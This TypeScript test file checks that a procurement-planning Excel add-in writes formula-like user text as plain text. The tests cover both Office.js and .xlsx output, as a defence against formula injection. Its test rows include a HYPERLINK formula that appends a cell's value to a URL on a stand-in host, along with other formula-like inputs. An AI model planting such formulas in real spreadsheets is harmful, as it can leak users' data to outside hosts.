/**
 * Text Plankoll writes that starts with =, +, - or @ (a user's area name copied to a summary sheet,
 * a sheet name) is written as text, never as a formula: through Office.js and into .xlsx files.
 */
import ExcelJS from "exceljs";
import { analyzeWorkbook } from "../../src/core";
import type { CellValue } from "../../src/core/types";
import { applyPlan, workbookGrids } from "../../tools/xlsx";
import { roundTrip } from "../helpers/workbooks";
import { FakeWorkbook, fakePort, installExcelGlobals } from "./fakeExcel";

beforeAll(installExcelGlobals);

const AREA = '=HYPERLINK("https://example.org/?"&A1,"Klicka")';
const rows: CellValue[][] = [
  ["Plan för upphandling"],
  ["Avtalsområde", "Beskrivning", "Uppskattat kontraktsvärde", "Kontraktstyp (vara/tjänst/entreprenad)"],
  [AREA, "Städtjänster", 2_400_000, "tjänst"],
  ["", "@SUM(1+1)", 900_000, "vara"],
  ["+46 8 508 000 00", "-1+2", 2_000_000, "tjänst"],
];
const dangerous = [AREA, "@SUM(1+1)", "-1+2", "+46 8 508 000 00"];
const sheetName = "=Plan";

describe("formula-like text is written as text", () => {
  test("through Office.js: no cell becomes a formula, and the text reads back unchanged", async () => {
    const model = new FakeWorkbook();
    model.addSheet(sheetName, rows);
    const { port } = fakePort(model);
    await port.writePlan(analyzeWorkbook([await port.readActiveSheet()], { today: "2026-11-23" }).plan);
    const plankoll = model.sheets.filter((s) => s.name.startsWith("Plankoll"));
    expect(plankoll.map((s) => s.name)).toContain("Plankoll Upphandling");
    const texts = plankoll.flatMap((s) => s.values.flat()).filter((v): v is string => typeof v === "string");
    // The user's text arrived on Plankoll's sheets as text: the area, and the sheet's name.
    expect(texts).toContain(AREA);
    expect(texts).toContain(sheetName);
    expect(texts.filter((v) => dangerous.includes(v)).length).toBeGreaterThan(1);
    // The only formulas are Plankoll's own links to the user's cells, whose texts stay inside their quotes.
    const link = /^=HYPERLINK\("#'(?:[^"]|"")*'![A-Z]+\d+","(?:[^"]|"")*"\)$/;
    for (const sheet of model.sheets) {
      const formulas = [...sheet.formulas].map((at) => {
        const [r, c] = at.split(",").map(Number);
        return sheet.get(r, c);
      });
      expect([sheet.name, formulas.filter((f) => !link.test(String(f)))]).toEqual([sheet.name, []]);
    }
  });

  test("into .xlsx: string cells, no formula, the text unchanged", async () => {
    const workbook = new ExcelJS.Workbook();
    const ws = workbook.addWorksheet(sheetName);
    rows.forEach((row) => ws.addRow(row));
    const loaded = await roundTrip(workbook);
    applyPlan(loaded, analyzeWorkbook(workbookGrids(loaded), { today: "2026-11-23" }).plan);
    const back = await roundTrip(loaded);
    let found = 0;
    for (const sheet of back.worksheets.filter((s) => s.name.startsWith("Plankoll"))) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula).toBeUndefined();
          if (dangerous.includes(cell.value as string) || cell.value === sheetName) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            found++;
          }
        }),
      );
    }
    expect(found).toBeGreaterThan(2);
  });
});
